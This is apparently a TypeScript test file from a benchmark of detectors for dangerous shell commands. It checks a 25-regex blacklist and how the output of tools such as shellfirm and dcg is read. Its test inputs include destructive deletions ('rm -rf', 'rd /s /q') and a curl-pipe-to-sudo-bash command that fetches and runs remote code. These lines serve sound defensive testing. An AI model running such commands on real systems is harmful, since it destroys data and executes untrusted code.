/** How other detectors are asked, and their answers read. */
import { blacklist, EXPRESSIONS } from "../../bench/risk/detectors/blacklist.cjs";
import { DCG, installed, SHELLFIRM } from "../../bench/risk/detectors/installed.cjs";

describe("the blacklist", () => {
  const [find] = blacklist().ways;

  it("has the 25 expressions that it is named after", () => {
    expect([EXPRESSIONS.length, blacklist().name]).toEqual([25, "blacklist, 25 regexes"]);
    expect(new Set(EXPRESSIONS.map(({ source }) => source)).size).toBe(25);
  });

  it.each([
    ["echo ok\r\nrm -rf /tmp/x\r\nreboot\r\n", [2, 3]],
    ["# never rm -rf /", [1]],
    ["cp a b\nmv a b\n", []],
    ["curl -s http://192.0.2.1/x | sudo bash", [1]],
    ["rd /s /q C:\\Temp", [1]],
  ])("finds in %j lines %j", async (content, lines) => {
    const { blocking } = await find({ type: "SHELL", content });
    expect(blocking.map(({ line }) => line)).toEqual(lines);
  });
});

describe("a program on the PATH", () => {
  const program = {
    name: process.execPath,
    call: (content: string) => ({ args: ["-e", content], input: "" }),
    read: ({ status }: { status: number | null }) => (status === 0 ? [] : undefined),
  };

  it("is named with its version, and asked", async () => {
    const found = installed(program);
    if ("missing" in found) throw new Error(found.missing);
    expect(found.name).toBe(`${process.execPath} ${process.versions.node}`);
    expect(await found.ways[0]({ type: "SHELL", content: "" })).toEqual({ blocking: [] });
  });

  it("fails the measurement when it gives no verdict", () => {
    const found = installed(program);
    if ("missing" in found) throw new Error(found.missing);
    expect(() => found.ways[0]({ type: "SHELL", content: "process.exit(3)" })).toThrow(
      /gave no verdict on a script\.\n.*It ended with 3\./,
    );
  });

  it("is told to be missing when it is", () => {
    expect(installed({ ...program, name: "no-such-program" })).toEqual({
      name: "no-such-program",
      missing: "not installed",
    });
  });

  it.each([
    [SHELLFIRM, { status: 0, stdout: "{}" }, []],
    [SHELLFIRM, { status: 10, stdout: "{}" }, [{ what: "shellfirm" }]],
    [SHELLFIRM, { status: 11, stdout: "{}" }, [{ what: "shellfirm" }]],
    [SHELLFIRM, { status: 1, stdout: "" }, undefined],
    [DCG, { status: 0, stdout: '{"decision":"allow"}' }, []],
    [DCG, { status: 1, stdout: '{"decision":"deny"}' }, [{ what: "dcg" }]],
    [DCG, { status: 0, stdout: '{"decision":"later"}' }, undefined],
    [DCG, { status: 3, stdout: "" }, undefined],
  ])("$name answers %j", ({ read }, answer, hits) => {
    expect(read(answer)).toEqual(hits);
  });
});
